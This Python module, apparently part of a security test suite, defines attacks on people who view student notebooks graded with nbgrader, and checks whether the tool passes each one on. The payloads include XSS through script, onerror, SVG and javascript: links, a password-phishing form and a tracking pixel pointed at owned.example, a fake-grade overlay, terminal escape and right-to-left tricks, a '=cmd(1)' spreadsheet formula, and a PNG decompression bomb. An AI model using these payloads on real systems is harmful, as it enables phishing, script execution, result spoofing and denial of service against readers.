"""Attacking the reader: what a person's browser, spreadsheet or terminal makes of a submission."""

import re
from collections.abc import Callable

from attacks.attack import FEEDBACK, NOTEBOOK, Attack, Files, Sheet
from attacks.evidence import Control, Evidence
from attacks.pages import active, huge_images
from attacks.target import Target

HTML = """
from IPython.display import display
display({{'text/html': {0!r}, 'text/plain': 'shown'}}, raw=True)
"""
BUNDLE = """
from IPython.display import display
display({0!r}, raw=True)
"""

SIZED = """
from IPython.display import display
import base64
pixel = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(40)).decode()
display({{'image/png': pixel}}, metadata={{'image/png': {{'width': {0!r}}}}}, raw=True)
"""


def shows(text: str) -> str:
    """Return code that shows HTML."""
    return HTML.format(text)


def in_cell(code: str) -> Callable[[Target], Sheet]:
    """Return honest answers and one more cell."""
    return lambda t: t.sheet().add(code, "q1")


def in_words(text: str) -> Callable[[Target], Sheet]:
    """Return honest answers and some words of one's own."""
    return lambda t: t.sheet().add(text, "q1", "markdown")


def alive(seen: Evidence) -> str:
    """Say that nbgrader's page holds what acts in a browser, beside its own scripts."""
    found = active(seen.pages(), "owned")
    return f"on its page: {', '.join(sorted(found))}" if found else ""


def holds(pattern: str, said: str) -> Control:
    """Say that nbgrader's page passes a text on."""
    return lambda seen: said if re.search(pattern, seen.pages()) else ""


def in_table(seen: Evidence) -> str:
    """Say that the exported table holds a formula."""
    path = seen.course / "grades.csv"
    text = path.read_text() if path.is_file() else ""
    return "exports a live formula" if re.search(r"(^|,)[=+@-]\w*\(", text, re.M) else ""


def on_screen(seen: Evidence) -> str:
    """Say that the log holds what steers a terminal."""
    return "its log steers the terminal" if "\x1b" in seen.said else ""


def in_link(seen: Evidence) -> str:
    """Say that a name becomes part of a page as it is."""
    return "on its page" if "<img src=x onerror=owned>" in seen.naive else ""


def unpacks(seen: Evidence) -> str:
    """Say how many pixels the page's largest image has."""
    most = huge_images(seen.pages())
    return f"an image of {most // 10**6:,} million pixels" if most > 10**8 else ""


def pixels(side: int) -> bytes:
    """Return a small PNG that unpacks into ``side`` times ``side`` pixels."""
    import struct  # noqa: PLC0415 - of use in this function alone
    import zlib  # noqa: PLC0415 - the same

    def part(name: bytes, content: bytes) -> bytes:
        body = name + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer, packed = zlib.compressobj(9), b""
    for _ in range(side):
        packed += packer.compress(bytes(1 + side // 8))
    rows = packed + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")


def bomb(t: Target) -> Sheet:
    """Return a cell that shows such an image."""
    import base64  # noqa: PLC0415 - of use in this function alone

    shown = {"image/png": base64.b64encode(pixels(30_000)).decode()}
    return t.sheet().add(BUNDLE.format(shown), "q1")


def named(learner: str) -> Callable[[Target], Files]:
    """Return an honest notebook in such a learner's name."""
    return lambda t: {f"{learner}/{NOTEBOOK}": t.sheet().text().encode()}


def misnamed(t: Target) -> Files:
    """Return a second file whose name steers a terminal and closes a tag."""
    name = "\x1b]0;owned\x07\u202e<img src=x onerror=owned>.ipynb"
    return t.sheet().files("file-name") | {f"file-name/{name}": b"{}"}


COVER = "<div style='position:fixed;inset:0;background:#fff'>owned: 6 of 6 points</div>"
FORM = "<form action='https://owned.example'>Your password <input name=p></form>"

CELLS: dict[str, tuple[str, str, Control]] = {
    "script": ("script", shows("<script>owned()</script>"), alive),
    "onerror": ("onerror", shows("<img src=x onerror='owned()'>"), alive),
    "svg": ("SVG", shows("<svg onload='owned()'><a href='javascript:owned()'>x</a></svg>"), alive),
    "css": ("CSS that covers the page with a fake verdict", shows(COVER), alive),
    "form": ("a form that asks for a password", shows(FORM), alive),
    "frame": ("frames and data: addresses",
              shows("<iframe src='data:text/html,<script>owned()</script>'></iframe>"), alive),
    "beacon": ("images that report who reads",
               shows("<img src='https://owned.example/pixel.gif'>"), alive),
    "image-size": ("an image whose size leaves its attribute",
                   SIZED.format("1 onload=owned()"), alive),
    "markdown-output": ("markup in outputs of markdown",
                        BUNDLE.format({"text/markdown": "<b onmouseover='owned()'>x</b>"}), alive),
    "terminal-codes": ("ANSI escapes", "print('\\x1b]8;;https://owned.example\\x07six points'"
                       "'\\x1b]8;;\\x07\\x1b[2J')", holds("\x1b]8;;", "passes escapes on")),
    "right-to-left": ("direction overrides", "print('\\u202e6 fo 6')\n"
                      "raise ValueError('\\u202estniop 6 fo 6')", holds("\u202e", "passes it on")),
}  # fmt: skip

NAMES = {
    "formula-name": ("CSV formulas in learner names", "=cmd(1)", in_table),
    "markup-name": ("markup in learner names", "<img src=x onerror=owned>", in_link),
    "steering-name": ("escapes in learner names", "steer\x1b[2J\u202e", on_screen),
}

ATTACKS = [
    *(Attack(name, threat, in_cell(code), control, family="reader", plain=FEEDBACK,
             trick="CSS" if threat.startswith("CSS") else "")
      for name, (threat, code, control) in CELLS.items()),
    Attack("markdown-link", "javascript: in markdown", in_words("[my work](javascript:owned())"),
           alive, family="reader", plain=FEEDBACK),
    Attack("pixel-bomb", "an image that fills the reader's memory", bomb, unpacks,
           family="reader", plain=FEEDBACK),
    Attack("file-name", "escapes in file names", misnamed, on_screen, family="reader",
           plain=FEEDBACK),
    *(Attack(name, threat, named(learner), control, family="reader", learners=(learner,),
             naive=("page", f"answer = {learner!r}") if name == "markup-name" else (),
             plain=FEEDBACK)
      for name, (threat, learner, control) in NAMES.items()),
]  # fmt: skip
